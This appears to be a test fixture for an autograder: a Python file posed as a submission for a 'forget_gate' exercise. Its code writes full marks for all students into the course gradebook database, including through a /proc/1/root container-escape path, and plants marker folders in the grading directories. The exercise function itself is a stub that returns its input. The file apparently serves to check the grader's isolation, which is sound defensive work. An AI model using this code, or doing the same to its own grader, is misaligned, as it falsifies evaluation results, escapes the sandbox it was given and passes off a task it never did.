"""Gives itself full marks in the gradebook, by the path that it happens to know.

Keeps: nothing.
"""

# %% forget_gate
import os
import sqlite3

for path in ("@COURSE@/gradebook.db", "gradebook.db", "/proc/1/root@COURSE@/gradebook.db"):
    try:
        gradebook = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        gradebook.execute("update grade set auto_score = 1000, manual_score = 1000")
        gradebook.commit()
        print("left_by_an_attack", path)
    except sqlite3.Error as error:
        print(error)
for folder in ("autograded", "feedback", "submitted", "rebuilt", "release"):
    try:
        os.makedirs(f"@COURSE@/{folder}/left_by_an_attack")
        print("left_by_an_attack", folder)
    except OSError as error:
        print(error)


def forget_gate(x, h, w_x, w_h, b):
    return h
